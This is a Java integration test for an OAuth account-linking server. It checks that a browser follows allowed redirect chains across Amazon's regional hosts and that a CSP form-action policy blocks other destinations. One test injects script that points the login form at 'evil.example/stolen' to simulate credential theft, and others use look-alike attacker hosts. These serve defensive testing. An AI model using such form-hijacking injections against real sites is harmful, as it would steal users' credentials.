package io.github.alexalink.client;

import static io.github.alexalink.fixture.servers.TestDatabase.PASSWORD;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;
import io.github.alexalink.fixture.alexa.Alexa;
import io.github.alexalink.fixture.alexa.Soon;
import io.github.alexalink.fixture.browser.Chromium;
import io.github.alexalink.fixture.cases.OnTomcat;
import io.github.alexalink.fixture.servers.LocalAuthority;
import io.github.alexalink.fixture.servers.TestDatabase;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriverException;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * One server is every host with amazon or example in its name for this Chromium. It answers each hop of a chain with a redirect to the next one, as
 * Amazon's hosts do.
 */
@Tag("thorough")
@DisplayName("Chromium follows a client's chain of redirects after the form, and leads nowhere else (CSP3 form-action)")
class ChainOfRedirectsIT extends OnTomcat {

    private static final String ALLOW = "allow";
    private static final String DENY = "deny";

    /** Writes into the title what Chromium has blocked, where the test reads it. */
    private static final String REPORT = "document.addEventListener('securitypolicyviolation',"
            + " e => document.title = 'blocked: ' + e.effectiveDirective + ' ' + e.blockedURI)";

    private static final String STOLEN = "/stolen";

    private static final List<String> HOPS = new CopyOnWriteArrayList<>();
    private static final List<String> VISITED = new CopyOnWriteArrayList<>();

    private static HttpsServer everyHost;
    private static ChromeDriver chrome;

    private String anna;
    private Alexa alexa;

    @BeforeAll
    static void open(@TempDir Path folder) throws Exception {
        everyHost = HttpsServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        everyHost.setHttpsConfigurator(
                new HttpsConfigurator(LocalAuthority.in(folder).serving()));
        everyHost.createContext("/", ChainOfRedirectsIT::hop);
        everyHost.setExecutor(Executors.newCachedThreadPool());
        everyHost.start();
        chrome = Chromium.phone(options());
    }

    private static String[] options() {
        String here = " 127.0.0.1:" + everyHost.getAddress().getPort();
        return new String[] {
            "--ignore-certificate-errors", "--host-resolver-rules=MAP *amazon*" + here + ", MAP *example*" + here
        };
    }

    @AfterAll
    static void close() {
        if (chrome != null) {
            chrome.quit();
        }
        everyHost.stop(0);
    }

    @BeforeEach
    void register() {
        anna = TestDatabase.unique("anna");
        TestDatabase.addAccount(anna, PASSWORD);
        alexa = Alexa.skill(ISSUER);
        HOPS.clear();
        VISITED.clear();
    }

    @ParameterizedTest
    @CsvSource({
        "https://pitangui.amazon.com, allow, amazon.com amazon.ca amazon.com.mx amazon.com.br amazon.co.uk amazon.ie"
                + " amazon.de amazon.fr amazon.it amazon.es amazon.nl amazon.com.be",
        "https://layla.amazon.com, deny, amazon.se amazon.pl amazon.com.tr amazon.ae amazon.sa amazon.eg amazon.co.za"
                + " amazon.in amazon.sg amazon.com.au amazon.co.jp amazon.cn"
    })
    void a_listener_arrives_in_every_market_of_amazon(String first, String decision, String markets) {
        List<String> chain = new ArrayList<>(List.of(first + "/api/skill/link/M2TESTVENDOR"));
        for (String market : markets.split(" ", -1)) {
            chain.add("https://skills-store." + market + "/api/skill/link/M2TESTVENDOR");
        }
        follow(chain);
        press(alexa.redirectingTo(chain.get(0)), decision);
        assertArrives(chain, decision);
    }

    @ParameterizedTest
    @CsvSource({
        "https://layla.amazon.com/api/skill/link/M2TESTVENDOR, https://skills-store.amazon.de/x",
        "https://pitangui.amazon.com/api/skill/link/M2TESTVENDOR, https://amazon.com.br/x https://www.amazon.com.br/x",
        "https://alexa.amazon.co.jp/api/skill/link/M2TESTVENDOR, https://skills-store.amazon.com.au/x https://a.b.amazon.in/x"
    })
    void a_listener_arrives_after_two_hops_and_after_three(String first, String more) {
        List<String> chain = new ArrayList<>(List.of(first));
        chain.addAll(List.of(more.split(" ")));
        for (String decision : List.of(ALLOW, DENY)) {
            follow(chain);
            press(alexa.redirectingTo(first), decision);
            assertArrives(chain, decision);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/",
                "https://skills-store.amazon.de.evil.example/",
                "https://notamazon.de/",
                "https://skills-store.amazon.de:8443/",
                "http://skills-store.amazon.de/"
            })
    void a_chain_that_leaves_amazon_is_blocked(String elsewhere) {
        follow(List.of(Alexa.LAYLA, elsewhere));
        press(alexa.redirectingTo(Alexa.LAYLA), DENY);
        assertBlocked();
        assertThat(VISITED).containsExactly(Alexa.LAYLA);
    }

    @Test
    void a_form_that_somebody_put_into_the_page_leads_to_no_other_host() {
        chrome.get(alexa.authorizationUrl());
        chrome.executeScript(REPORT);
        chrome.executeScript("const form = document.querySelector('form'); form.action = 'https://evil.example" + STOLEN
                + "';" + " HTMLFormElement.prototype.submit.call(form)");
        assertBlocked();
        assertThat(VISITED).isEmpty();
    }

    @Test
    void a_client_of_one_s_own_says_where_its_redirect_uri_sends_the_browser_on_to() {
        String own = "https://app.example.org/cb";
        Alexa app = registeredWith(own, "https://login.example.net", "https://*.example.com", "com.example.app:");
        List<String> chain = List.of(own, "https://login.example.net/x", "https://a.b.example.com/y");
        for (String decision : List.of(ALLOW, DENY)) {
            follow(chain);
            press(app, decision);
            assertArrives(chain, decision);
        }
        for (String elsewhere : List.of("https://example.com/", "https://evil.example/", "com.example.other:/done")) {
            follow(List.of(own, elsewhere));
            press(app, DENY);
            assertBlocked();
            assertThat(VISITED).containsExactly(own);
        }
    }

    /** In a Chromium of its own, which then asks whether to open the app and submits no other form. */
    @ParameterizedTest
    @ValueSource(strings = {ALLOW, DENY})
    void a_client_of_one_s_own_sends_the_browser_on_to_its_app(String decision) throws IOException {
        String own = "https://app.example.org/cb";
        follow(List.of(own, "com.example.app:/done"));
        ChromeDriver fresh = Chromium.phoneThatRemembers(options());
        try {
            press(fresh, registeredWith(own, "com.example.app:"), decision);
            assertThat(Soon.within(60, () -> Chromium.requests(fresh), requests -> requests.stream()
                            .anyMatch(request -> request.startsWith("com."))))
                    .anyMatch(request -> request.startsWith(
                            "com.example.app:/done?" + (decision.equals(ALLOW) ? "code=alc_" : "error=access_denied")));
        } finally {
            fresh.quit();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"127.0.0.1", "localhost", "[::1]"})
    void an_app_on_a_computer_gets_its_code_at_the_port_of_the_day_and_redeems_it_with_that(String host)
            throws IOException {
        String registered = "http://" + host + "/cb";
        String id = TestDatabase.unique("app");
        TestDatabase.ask(
                "SELECT client_id FROM alexa.register_client(client_id => ?, display_name => 'App',"
                        + " redirect_uris => ARRAY[?], public => true)",
                id,
                registered);
        HttpServer app = HttpServer.create(new InetSocketAddress(InetAddress.getByName(host), 0), 0);
        app.createContext("/cb", ChainOfRedirectsIT::arrived);
        app.start();
        try {
            String asked = registered.replace("/cb", ":" + app.getAddress().getPort() + "/cb");
            Alexa installed = Alexa.registered(ISSUER, id, "").withPkce().redirectingTo(asked);
            press(installed, DENY);
            assertThat(outcome()).isEqualTo("arrived");
            press(installed, ALLOW);
            assertThat(outcome()).isEqualTo("arrived");
            assertThat(chrome.getCurrentUrl()).startsWith(asked + "?code=alc_");

            Map<String, String> form = installed.codeRequest(Alexa.parameter(chrome.getCurrentUrl(), "code"));
            form.put("client_id", id);
            for (String other : List.of(registered, registered.replace("/cb", ":1/cb"))) {
                form.put("redirect_uri", other);
                assertThat(installed
                                .post("/token", Alexa.encoded(form), Map.of())
                                .body())
                        .contains("invalid_grant");
            }
            form.put("redirect_uri", asked);
            assertThat(installed.post("/token", Alexa.encoded(form), Map.of()).statusCode())
                    .isEqualTo(200);
        } finally {
            app.stop(0);
        }
    }

    private Alexa registeredWith(String redirectUri, String... formAction) {
        TestDatabase.ask(
                "SELECT 'done', alexa.set_redirect_uris(?, ARRAY[?]), alexa.change_client(client_id => ?,"
                        + " form_action => string_to_array(?, ' '))",
                alexa.clientId(),
                redirectUri,
                alexa.clientId(),
                String.join(" ", formAction));
        return alexa.redirectingTo(redirectUri);
    }

    private static void follow(List<String> chain) {
        HOPS.clear();
        HOPS.addAll(chain);
        VISITED.clear();
    }

    private static void hop(HttpExchange exchange) throws IOException {
        try (exchange) {
            URI asked = exchange.getRequestURI();
            String here = "https://" + exchange.getRequestHeaders().getFirst("Host") + asked.getPath();
            if (String.valueOf(asked.getRawQuery()).contains("state=")
                    || asked.getPath().equals(STOLEN)) {
                VISITED.add(here); // and not the icon that Chromium asks for
            }
            int next = HOPS.indexOf(here) + 1;
            if (next > 0 && next < HOPS.size()) {
                exchange.getResponseHeaders().set("Location", HOPS.get(next) + "?" + asked.getRawQuery());
                exchange.sendResponseHeaders(302, -1);
            } else {
                arrived(exchange);
            }
        }
    }

    private static void arrived(HttpExchange exchange) throws IOException {
        try (exchange) {
            byte[] page = "<!DOCTYPE html><title>arrived</title>".getBytes(StandardCharsets.US_ASCII);
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
        }
    }

    private void press(Alexa client, String decision) {
        press(chrome, client, decision);
    }

    private void press(ChromeDriver browser, Alexa client, String decision) {
        browser.get(client.authorizationUrl());
        browser.executeScript(REPORT);
        if (decision.equals(ALLOW)) {
            browser.findElement(By.id("username")).sendKeys(anna);
            browser.findElement(By.id("password")).sendKeys(PASSWORD);
        }
        browser.findElement(By.cssSelector("button[value=" + decision + "]")).click();
    }

    private static void assertArrives(List<String> chain, String decision) {
        assertThat(outcome()).as("after %s", VISITED).isEqualTo("arrived");
        assertThat(VISITED).containsExactlyElementsOf(chain);
        assertThat(chrome.getCurrentUrl())
                .startsWith(chain.get(chain.size() - 1))
                .contains(decision.equals(ALLOW) ? "?code=alc_" : "?error=access_denied");
    }

    private static void assertBlocked() {
        assertThat(outcome()).startsWith("blocked: form-action");
        assertThat(chrome.getCurrentUrl()).startsWith(ISSUER);
    }

    private static String outcome() {
        return new WebDriverWait(chrome, Duration.ofMinutes(1), Duration.ofMillis(30))
                .ignoring(WebDriverException.class) // the page may unload while it is asked
                .until(driver -> {
                    String title = String.valueOf(driver.getTitle());
                    return title.equals("arrived") || title.startsWith("blocked") ? title : null;
                });
    }
}
